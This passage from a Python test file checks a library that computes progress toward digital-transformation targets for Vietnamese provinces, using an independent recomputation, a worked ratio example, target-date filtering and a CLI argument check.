      R = d * CAGR_o / |CAGR_r| (years of 365.25 days, zeros as 0.001) against 0.95 and 0.60.
    """
    day = pd.Timestamp(when)
    read = lambda name: pd.read_csv(root / f"{name}.csv", dtype=str, keep_default_na=False)  # noqa: E731
    sources, units, indicators, obs, targets = (read(n) for n in
                                                ("sources", "units", "indicators", "observations", "targets"))
    published = dict(zip(sources["id"], _dates(sources["published"])))
    obs = obs.assign(current=True)
    history = read("history") if (root / "history.csv").exists() else pd.DataFrame()
    if not history.empty:
        old = history[(history["table"] == "observations") & history["source"].isin(sources["id"])]
        obs = pd.concat([obs, old[obs.columns.drop("current")].assign(current=False)], ignore_index=True)
    obs["as_of"] = _dates(obs["as_of"])
    obs["value"] = obs["value"].astype(float)
    basis = _dates(obs["basis"]) if "basis" in obs else pd.Series(pd.NaT, obs.index)
    not_before_of = (dict(zip(sources["id"], _dates(sources["not_before"]))) if "not_before" in sources
                     else {})
    known_on = pd.concat([obs["as_of"], obs["source"].map(published), obs["source"].map(not_before_of), basis],
                         axis=1).max(axis=1)
    obs = obs[(obs["as_of"] <= day) & (known_on <= day)].assign(known_on=known_on)
    obs = (obs.sort_values(["known_on", "current"])
              .drop_duplicates(["unit", "indicator", "as_of"], keep="last"))

    current = read("observations")
    latest_figure = _dates(current["as_of"]).groupby(current["source"]).max()
    targets = targets.assign(deadline=_dates(targets["deadline"]), value=targets["value"].astype(float),
                             order=range(len(targets)))
    target_published = targets["source"].map(published)
    not_before = (dict(zip(sources["id"], _dates(sources["not_before"]))) if "not_before" in sources
                  else {})
    undated_but_later = target_published.isna() & ((targets["source"].map(latest_figure) > day)
                                                   | (targets["source"].map(not_before) > day))
    targets = targets[((target_published <= day) | target_published.isna()) & ~undated_but_later]

    start, end = _dates(units["valid_from"]), _dates(units["valid_to"])
    alive = units[(start.isna() | (start <= day)) & (end.isna() | (end >= day))]
    parent = dict(zip(units["id"], units["parent"]))
    wanted = alive[alive["id"].isin(set(obs["unit"]) | set(read("targets")["unit"])) | (alive["level"] == "nation")]
    higher = dict(zip(indicators["id"], indicators["higher_is_better"] == "true"))

    rows = []
    for unit in wanted["id"]:
        chain = [unit]
        while parent.get(chain[-1]):
            chain.append(parent[chain[-1]])
        for indicator in sorted(set(targets["indicator"])):
            target = None
            for owner in chain:
                theirs = targets[(targets["unit"] == owner) & (targets["indicator"] == indicator)]
                if len(theirs):
                    ahead = theirs[theirs["deadline"] >= day].sort_values(["deadline", "order"])
                    target = ahead.iloc[0] if len(ahead) else theirs.sort_values(["deadline", "order"]).iloc[-1]
                    break
            if target is None:
                continue
            row = {"unit": unit, "indicator": indicator, "target_unit": target["unit"], "target": target["value"],
                   "comparator": target["comparator"], "deadline": target["deadline"], "as_of": pd.NaT,
                   "value": np.nan, "gap": np.nan, "status": "no_data"}
            values = obs[(obs["unit"] == unit) & (obs["indicator"] == indicator)].sort_values("as_of")
            if len(values):
                not_months = values[values["window"] != "month"]
                kind = (not_months if len(not_months) else values)["window"].iloc[-1]
                values = values[values["window"] == kind]
                if target["rank_of"] and not (values["rank_of"] == target["rank_of"]).any():
                    row.update(as_of=values["as_of"].iloc[-1], value=values["value"].iloc[-1],
                               status="not_comparable")
                    rows.append(row)
                    continue
                if target["rank_of"]:
                    values = values[values["rank_of"] == target["rank_of"]]
                first, last = values.iloc[0], values.iloc[-1]
                up = target["comparator"] == ">="
                gap = target["value"] - last["value"] if up else last["value"] - target["value"]
                row.update(as_of=last["as_of"], value=last["value"], gap=gap)
                if gap <= 0:
                    row["status"] = "met"
                elif values["as_of"].nunique() < 2:
                    row["status"] = "insufficient_data"
                else:
                    y0, yt, yT = (v or 0.001 for v in (first["value"], last["value"], target["value"]))
                    ahead = (target["deadline"] - first["as_of"]).days
                    if ahead <= 0:          # no growth is "required" towards a deadline before the base
                        row["status"] = "insufficient_data"
                        rows.append(row)
                        continue
                    observed = (yt / y0) ** (365.25 / (last["as_of"] - first["as_of"]).days) - 1
                    required = (yT / y0) ** (365.25 / ahead) - 1
                    ratio = (1 if higher[indicator] else -1) * observed / abs(required)
                    row["status"] = ("on_track" if ratio >= 0.95 else "acceleration_needed" if ratio >= 0.60
                                     else "limited_progress" if ratio >= 0 else "deterioration")
            rows.append(row)
    return pd.DataFrame(rows)


def undated_sources_with_later_figures(when: str) -> set[str]:
    sources = pd.read_csv(DATA / "sources.csv", dtype=str, keep_default_na=False)
    obs = pd.read_csv(DATA / "observations.csv", dtype=str, keep_default_na=False)
    undated = set(sources.loc[sources["published"] == "", "id"])
    return {s for s in undated if (obs.loc[obs["source"] == s, "as_of"] > when).any()}


def test_D6_every_row_of_the_attainment_table_matches_an_independent_recomputation(shipped):
    """Every (unit, indicator) row on 2023-09-30, recomputed without dtlib from the CSV files.

    The probe compared 101 rows. The data set has grown since (figures and targets published
    2023-2026); all rows are compared, among them a deterioration, so the ratio is exercised.
    Targets of an undated source that reports later figures are not applied (test_D8), here
    or in the recomputation."""
    theirs = attainment_on(shipped, REPORT_DATE)
    ours = independent_attainment(DATA, REPORT_DATE)
    key = ["unit", "indicator"]
    assert len(theirs) >= 101
    assert set(map(tuple, ours[key].to_numpy())) == set(map(tuple, theirs[key].to_numpy()))
    columns = ["as_of", "value", "target_unit", "target", "comparator", "deadline", "gap", "status"]
    merged = theirs[key + columns].merge(ours[key + columns], on=key, suffixes=("", "_ours"))
    assert len(merged) == len(theirs)
    mismatches = []
    for column in columns:
        a, b = merged[column], merged[f"{column}_ours"]
        if column in ("value", "target", "gap"):
            same = np.isclose(a.astype(float), b.astype(float), rtol=0, atol=1e-9, equal_nan=True)
        elif column in ("as_of", "deadline"):
            same = (pd.to_datetime(a) == pd.to_datetime(b)) | (pd.isna(a) & pd.isna(b))
        else:
            same = a.astype(str) == b.astype(str)
        mismatches += [(r.unit, r.indicator, column, getattr(r, column), getattr(r, f"{column}_ours"))
                       for r in merged[~np.asarray(same)].itertuples()]
    assert not mismatches, mismatches[:10]


def test_D7_the_readme_worked_example_gives_r_3_36_on_track(shipped):
    from dtlib.analysis.targets import progress_ratio, status_from_ratio

    qb = shipped.observations.query("unit == 'quang-binh' and indicator == 'dti_rank'").set_index("period")
    assert (qb.loc["DTI 2021", "value"], qb.loc["DTI 2022", "value"]) == (61, 46)
    t0, t = qb.loc["DTI 2021", "as_of"], qb.loc["DTI 2022", "as_of"]
    ratio = progress_ratio(61, t0, 46, t, 45, pd.Timestamp("2025-12-31"), higher_is_better=False)
    by_hand = -1 * ((46 / 61) ** (1 / (365 / 365.25)) - 1) / abs((45 / 61) ** (1 / 4) - 1)
    assert ratio == pytest.approx(by_hand, abs=1e-12) and round(ratio, 2) == 3.36
    assert ratio == pytest.approx(3.3597992, abs=1e-7)
    assert status_from_ratio(ratio) == "on_track"


def test_D8_a_target_published_after_the_report_date_does_not_apply(shipped):
    from dtlib.analysis.targets import known_targets

    published = dict(zip(shipped.sources["id"], shipped.sources["published"]))
    table = attainment_on(shipped, "2022-12-31")
    assert not (table["target_source"].map(published) > pd.Timestamp("2022-12-31")).any()
    assert "qd-17-2023-ubqgcds" not in set(known_targets(shipped, "2022-12-31")["source"])
    row = table.set_index(["unit", "indicator"]).loc[("lao-cai", "ehealth_records_pct")]
    assert (row["target"], f"{row['deadline']:%Y-%m-%d}", row["target_source"]) == (90, "2025-12-31", "qd-411-2022")
    assert "qd-17-2023-ubqgcds" in set(attainment_on(shipped, REPORT_DATE)["target_source"])


@pytest.mark.parametrize("when", ["2022-12-31", REPORT_DATE])
def test_D8_targets_of_an_undated_source_do_not_apply_before_the_figures_it_reports(shipped, when):
    late = undated_sources_with_later_figures(when)
    assert "kinhtedothi-2025-01-toan-trinh-2024" in late
    used = set(attainment_on(shipped, when)["target_source"])
    assert not used & late, sorted(used & late)


def test_R08_previous_that_is_not_a_pack_is_refused_in_one_line(capsys, tmp_path):
    # issue 19 (and probe 2, R08): --previous given a folder that does not exist, or one that no report wrote, was accepted silently
    code, out, err = cli(capsys, "report", "--out", tmp_path / "pack", "--previous", tmp_path / "nowhere")
    assert code == 2 and f"--previous {tmp_path / 'nowhere'}: no such folder" in err
    (tmp_path / "plain").mkdir()
    code, out, err = cli(capsys, "report", "--out", tmp_path / "pack", "--previous", tmp_path / "plain")
    assert code == 2 and "not a briefing pack" in err
    assert not (tmp_path / "pack").exists()
